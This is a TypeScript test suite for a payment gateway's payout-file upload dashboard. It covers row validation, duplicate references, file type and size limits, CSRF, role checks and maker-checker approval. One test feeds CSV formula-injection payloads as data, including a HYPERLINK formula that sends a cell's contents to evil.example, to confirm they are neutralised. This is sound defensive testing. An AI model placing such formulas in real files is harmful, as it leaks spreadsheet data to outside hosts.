// Payout files in the dashboard on both databases (issue 10 §3, OPS-10): hostile files refused by
// content with nothing stored, every row checked with its line and code before anything is made,
// formula cells shown and exported neutralised while stored as given, the same file twice one
// batch, the limits, and who may upload.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { HEADER } from '../../src/payout-batches/parse-file.ts';
import { enrolOperator, type TestOperator } from '../helpers/dashboard.ts';
import { testDialects } from '../helpers/databases.ts';
import { startTestGateway, type TestGateway } from '../helpers/gateway.ts';
import { saveNgnBeneficiary } from '../helpers/payouts.ts';

const dialects = await testDialects();
const MAX_BYTES = 4096;
const MAX_ROWS = 20;

for (const dialect of dialects) {
  describe(`payout files in the dashboard on ${dialect.name}`, { skip: dialect.skip }, () => {
    let gw: TestGateway;
    let maker: TestOperator;
    let ngn: string;
    let deleted: string;
    let usedReference: string;
    const db = () => gw.services.database.db;
    const batchCount = async () =>
      Number(
        (
          await db()
            .selectFrom('payout_batches')
            .select((eb) => eb.fn.countAll().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    const payoutCount = async () =>
      Number(
        (
          await db()
            .selectFrom('payouts')
            .select((eb) => eb.fn.countAll().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );
    const saveBeneficiary = async () => (await saveNgnBeneficiary(gw)).id;
    const upload = (content: string | Uint8Array, filename = 'payouts.csv') =>
      maker.client.upload('/dashboard/payout-batches', { filename, content });
    const batchIdOf = (location: string | null) => {
      const id = /\/dashboard\/payout-batches\/(pob_[0-9A-Za-z]{22})/.exec(location ?? '')?.[1];
      assert.ok(id, `redirected to a batch (got ${location})`);
      return id;
    };

    before(async () => {
      gw = await startTestGateway(dialect, {
        env: { PAYWARDEN_PAYOUT_FILE_MAX_BYTES: String(MAX_BYTES), PAYWARDEN_PAYOUT_FILE_MAX_ROWS: String(MAX_ROWS) },
      });
      await enrolOperator(gw); // the first operator is an owner
      maker = await enrolOperator(gw, { role: 'finance' });
      ngn = await saveBeneficiary();
      deleted = await saveBeneficiary();
      assert.equal((await gw.api('DELETE', `/v1/beneficiaries/${deleted}`)).status, 200);
      usedReference = `used-${randomUUID()}`;
      const payout = await gw.api('POST', '/v1/payouts', {
        amount: 1000,
        currency: 'NGN',
        beneficiary: ngn,
        reference: usedReference,
      });
      assert.equal(payout.status, 201, JSON.stringify(payout.body));
    });
    after(async () => {
      await gw?.close();
    });

    test('a good file (BOM, CRLF, quoted narration with a comma): every row shown ok before anything is created; the same bytes again are the same batch', async () => {
      const before = await payoutCount();
      const file = Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(
          `${HEADER}\r\n2500.50,NGN,${ngn},good-${randomUUID()},"Rent, May"\r\n10,NGN,${ngn},good-${randomUUID()},\r\n`,
        ),
      ]);
      const uploaded = await upload(file);
      assert.equal(uploaded.status, 303, uploaded.html.slice(0, 500));
      const id = batchIdOf(uploaded.location);
      const page = await maker.client.get(`/dashboard/payout-batches/${id}`);
      assert.equal(page.status, 200);
      assert.match(page.html, /id="batch-status">ready</);
      assert.match(page.html, /NGN 2510\.50 in 2 payouts/);
      assert.match(page.html, /Rent, May/);
      assert.equal((page.html.match(/class="row-ok"/g) ?? []).length, 2);
      assert.match(page.html, /id="submit-batch"/);
      assert.equal(await payoutCount(), before, 'nothing is paid at upload');
      const rows = await db()
        .selectFrom('payout_batch_rows')
        .selectAll()
        .where('batch_id', '=', id)
        .orderBy('row_no')
        .execute();
      assert.deepEqual(
        rows.map((r) => [r.line, r.amount, r.amount_minor, r.narration]),
        [
          [2, '2500.50', 250_050, 'Rent, May'],
          [3, '10', 1000, ''],
        ],
      );

      const count = await batchCount();
      const again = await upload(file, 'renamed.csv');
      assert.equal(batchIdOf(again.location), id, 'the same file is the same batch, whatever its name');
      assert.match(again.location ?? '', /again=1/);
      assert.match((await maker.client.get(again.location!)).html, /id="uploaded-again"/);
      assert.equal(await batchCount(), count, 'nothing new was stored');
      const audit = await db()
        .selectFrom('audit_log')
        .selectAll()
        .where('action', '=', 'payout_batch.upload')
        .where('object_id', '=', id)
        .execute();
      assert.equal(audit.length, 1);
      assert.equal(audit[0]?.actor_id, maker.id);
    });

    test('bad rows: each refused with its line, field and stable code; duplicates in the file and against existing payouts; nothing created', async () => {
      const before = await payoutCount();
      const dup = `dup-${randomUUID()}`;
      const lines = [
        `1.001,NGN,${ngn},r1-${randomUUID()},`, // line 2
        `10,NGN,ben_0000000000000000000000,r2-${randomUUID()},`, // 3
        `10,NGN,${deleted},r3-${randomUUID()},`, // 4
        `10,USD,${ngn},r4-${randomUUID()},`, // 5
        `10,NGN,${ngn},${dup},`, // 6
        `"multi`, // 7 (the quoted field goes on to line 8)
        `line",NGN,${ngn},${dup},`, // 8
        `10,NGN,${ngn},${usedReference},`, // 9
        `10,NGN,${ngn}`, // 10
        `10,XYZ,${ngn},r5-${randomUUID()},`, // 11
        `10,NGN,${ngn},ok-${randomUUID()},fine`, // 12
      ];
      const uploaded = await upload(`${HEADER}\n${lines.join('\n')}\n`);
      const id = batchIdOf(uploaded.location);
      const rows = await gw.services.payoutBatches.rowsOf(id);
      const byLine = Object.fromEntries(rows.map((r) => [r.line, r.errors.map((e) => `${e.field}:${e.code}`).sort()]));
      assert.deepEqual(byLine, {
        2: ['amount:amount_too_precise'],
        3: ['beneficiary:beneficiary_not_found'],
        4: ['beneficiary:beneficiary_not_found'],
        5: ['currency:beneficiary_currency_mismatch'],
        6: ['reference:reference_duplicate_in_file'],
        7: ['amount:amount_invalid', 'reference:reference_duplicate_in_file'],
        9: ['reference:reference_used'],
        10: ['reference:reference_invalid', 'row:columns_count'],
        11: ['currency:currency_invalid'],
        12: [],
      });
      assert.match(rows.find((r) => r.line === 6)!.errors[0]!.message, /lines 6, 7/);
      assert.match(rows.find((r) => r.line === 9)!.errors[0]!.message, /already belongs to payout po_/);
      const batch = await gw.services.payoutBatches.get('test', id);
      assert.equal(batch?.status, 'invalid');
      assert.equal(batch?.error_count, 9);
      const page = await maker.client.get(`/dashboard/payout-batches/${id}`);
      assert.match(page.html, /id="batch-invalid"/);
      assert.doesNotMatch(page.html, /id="submit-batch"/, 'an invalid file cannot be submitted');
      assert.match(page.html, /<code>reference_used<\/code>/);
      assert.equal(await payoutCount(), before);
    });

    test('formula cells: refused by the row checks, shown and exported with a leading apostrophe, stored as given', async () => {
      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const file = toCsvText([
        HEADER,
        `10,NGN,${ngn},${quote(hostile)},@SUM(A1:A9)`,
        `-10,NGN,${ngn},+cmd,"\t=1+1"`,
        `10,NGN,${ngn},ok-${randomUUID()},-Refund`,
      ]);
      const id = batchIdOf((await upload(file)).location);
      const stored = await db()
        .selectFrom('payout_batch_rows')
        .selectAll()
        .where('batch_id', '=', id)
        .orderBy('row_no')
        .execute();
      assert.equal(stored[0]?.reference, hostile, 'the stored value is the file’s own');
      assert.equal(stored[1]?.narration, '\t=1+1');
      const page = await maker.client.get(`/dashboard/payout-batches/${id}`);
      assert.match(page.html, /id="neutralised-note"/);
      assert.match(page.html, /<span class="neutralised">&#39;=HYPERLINK\(&quot;http:\/\/evil\.example/);
      assert.match(page.html, /<span class="neutralised">&#39;@SUM\(A1:A9\)<\/span>/);
      assert.match(page.html, /<span class="neutralised">&#39;-10<\/span>/);
      assert.match(page.html, /<span class="neutralised">&#39;-Refund<\/span>/);
      const report = await fetch(`${gw.url}/dashboard/payout-batches/${id}/report.csv`, {
        headers: { cookie: [...maker.client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      });
      assert.equal(report.status, 200);
      assert.match(report.headers.get('content-type') ?? '', /^text\/csv/);
      assert.match(report.headers.get('content-disposition') ?? '', /^attachment;/);
      const text = await report.text();
      // No cell of the export starts with a formula character.
      for (const cell of text.split(/\r\n|,/)) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, cell);
      assert.match(text, /"'=HYPERLINK\(""http:\/\/evil\.example/);
      assert.match(text, /'@SUM\(A1:A9\)/);
      assert.match(text, /reference_invalid/);
    });

    test('wrong type by content (an xlsx named .csv, UTF-16, binary), oversized, too many rows: refused with a clear reason, nothing stored, the refusal audited', async () => {
      const count = await batchCount();
      const xlsx = Buffer.concat([
        Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]),
        deflateRawSync(Buffer.from(HEADER)),
      ]);
      const asXlsx = await upload(xlsx, 'payouts.csv');
      assert.equal(asXlsx.status, 422);
      assert.match(asXlsx.html, /id="upload-problem"/);
      assert.match(asXlsx.html, /file_not_text<\/strong>: This is a ZIP archive/);
      const utf16 = await upload(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\r\n`, 'utf16le')]));
      assert.match(utf16.html, /file_not_utf8<\/strong>: This text is UTF-16/);
      const binary = await upload(Buffer.from([1, 2, 3, 0, 4, 5]), 'payouts.csv');
      assert.match(binary.html, /file_not_text/);

      const row = (i: number) => `1,NGN,${ngn},many-${i}-${randomUUID().slice(0, 8)},`;
      const many = await upload(`${HEADER}\n${Array.from({ length: MAX_ROWS + 1 }, (_, i) => row(i)).join('\n')}\n`);
      assert.equal(many.status, 422);
      assert.match(many.html, new RegExp(`too_many_rows</strong>: The file has more than ${MAX_ROWS} payout rows`));

      // Over the file limit but within the form's: the file check says so.
      const big = await upload(`${HEADER}\n1,NGN,${ngn},big,${'x'.repeat(MAX_BYTES)}\n`);
      assert.equal(big.status, 422);
      assert.match(big.html, /file_too_large/);
      // Far over: the body limit stops the upload before it is read.
      const huge = await upload(`${HEADER}\n${'9'.repeat(MAX_BYTES * 8)}\n`);
      assert.equal(huge.status, 413);
      assert.match(huge.html, new RegExp(`at most ${MAX_BYTES} bytes`));

      const empty = await maker.client.upload('/dashboard/payout-batches', { filename: 'empty.csv', content: '' });
      assert.match(empty.html, /file_empty/);
      assert.equal(await batchCount(), count, 'no batch for a refused file');
      const refusals = await db()
        .selectFrom('audit_log')
        .select(['details_json', 'result'])
        .where('action', '=', 'payout_batch.upload')
        .where('result', '=', 'failure')
        .execute();
      const codes = refusals.map((r) => (JSON.parse(r.details_json) as { code: string }).code);
      for (const code of ['file_not_text', 'file_not_utf8', 'too_many_rows', 'file_too_large', 'file_empty'])
        assert.ok(codes.includes(code), `${code} audited`);
    });

    test('who may upload: a viewer is refused (audited as denied); no CSRF token, a cross-site form, multipart elsewhere and no session are refused', async () => {
      const viewer = await enrolOperator(gw, { role: 'viewer' });
      const file = `${HEADER}\n1,NGN,${ngn},viewer-${randomUUID()},\n`;
      const refused = await viewer.client.upload('/dashboard/payout-batches', { filename: 'p.csv', content: file });
      assert.equal(refused.status, 403);
      const denied = await db()
        .selectFrom('audit_log')
        .selectAll()
        .where('actor_id', '=', viewer.id)
        .where('action', '=', 'dashboard.create_payouts')
        .executeTakeFirst();
      assert.equal(denied?.result, 'denied');
      assert.doesNotMatch((await viewer.client.get('/dashboard/payout-batches')).html, /id="upload"/);

      const count = await batchCount();
      const noToken = await maker.client.upload('/dashboard/payout-batches', { filename: 'p.csv', content: file }, {});
      assert.equal(noToken.status, 403);
      const saved = maker.client.origin;
      maker.client.origin = 'https://evil.example';
      const crossSite = await upload(file);
      maker.client.origin = saved;
      assert.equal(crossSite.status, 403);
      const elsewhere = await maker.client.upload('/dashboard/logout', { filename: 'p.csv', content: file });
      assert.equal(elsewhere.status, 415);
      const anonymous = await fetch(`${gw.url}/dashboard/payout-batches`, {
        method: 'POST',
        headers: { origin: gw.url },
        body: (() => {
          const form = new FormData();
          form.set('file', new Blob([file]), 'p.csv');
          return form;
        })(),
        redirect: 'manual',
      });
      assert.equal(anonymous.status, 303);
      assert.equal(await batchCount(), count);
    });

    test('submit and approve: only the uploader submits (a fresh password); the file\u2019s payouts are held (rule batch); its maker cannot approve; another operator can, with a reason', async () => {
      const file = `${HEADER}\n1.00,NGN,${ngn},flow-${randomUUID()},\n2.00,NGN,${ngn},flow-${randomUUID()},\n`;
      const id = batchIdOf((await upload(file)).location);
      const other = await enrolOperator(gw, { role: 'finance' });
      const notMine = await other.client.post(`/dashboard/payout-batches/${id}/submit`);
      assert.equal(notMine.status, 403);
      assert.match(notMine.html, /Only the operator who uploaded a file submits it/);
      assert.doesNotMatch((await other.client.get(`/dashboard/payout-batches/${id}`)).html, /id="submit-batch"/);

      const before = await payoutCount();
      const submitted = await maker.client.post(`/dashboard/payout-batches/${id}/submit`);
      assert.equal(submitted.status, 303, submitted.html.slice(0, 300));
      assert.equal(await payoutCount(), before + 2);
      const again = await maker.client.post(`/dashboard/payout-batches/${id}/submit`);
      assert.equal(again.status, 303, 'a second click answers with the same batch');
      assert.equal(await payoutCount(), before + 2, 'and creates nothing');
      const rows = await gw.services.payoutBatches.rowsOf(id);
      assert.deepEqual(
        rows.map((r) => r.payout_status),
        ['on_hold', 'on_hold'],
      );
      const page = await maker.client.get(`/dashboard/payout-batches/${id}`);
      assert.match(page.html, /id="batch-status">submitted</);
      assert.match(page.html, /2 on_hold/);

      const own = await maker.client.post(`/dashboard/payout-batches/${id}/decide`, {
        decision: 'approve',
        reason: 'mine',
      });
      assert.equal(own.status, 403);
      assert.match(own.html, /You made this payout .*: someone else must decide it/);
      const refusals = await db()
        .selectFrom('audit_log')
        .selectAll()
        .where('actor_id', '=', maker.id)
        .where('action', '=', 'payout.approve')
        .where('result', '=', 'denied')
        .execute();
      assert.ok(refusals.length >= 1, 'the refused approval is audited');
      const viewer = await enrolOperator(gw, { role: 'viewer' });
      assert.equal(
        (await viewer.client.post(`/dashboard/payout-batches/${id}/decide`, { decision: 'approve', reason: 'x' }))
          .status,
        403,
      );
      const noReason = await other.client.post(`/dashboard/payout-batches/${id}/decide`, {
        decision: 'approve',
        reason: '',
      });
      assert.equal(noReason.status, 400);

      const approved = await other.client.post(`/dashboard/payout-batches/${id}/decide`, {
        decision: 'approve',
        reason: 'Checked against the invoices',
      });
      assert.equal(approved.status, 303, approved.html.slice(0, 300));
      assert.match(approved.location ?? '', /decided=approve/);
      assert.deepEqual(
        (await gw.services.payoutBatches.rowsOf(id)).map((r) => r.payout_status),
        ['pending', 'pending'],
        'released: each payout now goes to the provider like any other',
      );
      const nothingLeft = await other.client.post(`/dashboard/payout-batches/${id}/decide`, {
        decision: 'approve',
        reason: 'again',
      });
      assert.equal(nothingLeft.status, 409);
    });

    test('the template downloads as CSV with the documented header, and the upload page documents the columns', async () => {
      const page = await maker.client.get('/dashboard/payout-batches');
      assert.match(page.html, /id="columns"/);
      for (const column of HEADER.split(',')) assert.match(page.html, new RegExp(`<code>${column}</code>`));
      const template = await fetch(`${gw.url}/dashboard/payout-batches/template.csv`, {
        headers: { cookie: [...maker.client.cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
      });
      assert.equal(template.status, 200);
      assert.match(template.headers.get('content-disposition') ?? '', /attachment; filename="payouts-template.csv"/);
      assert.equal((await template.text()).split('\r\n')[0], HEADER);
    });
  });
}

const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
const toCsvText = (lines: readonly string[]) => `${lines.join('\r\n')}\r\n`;
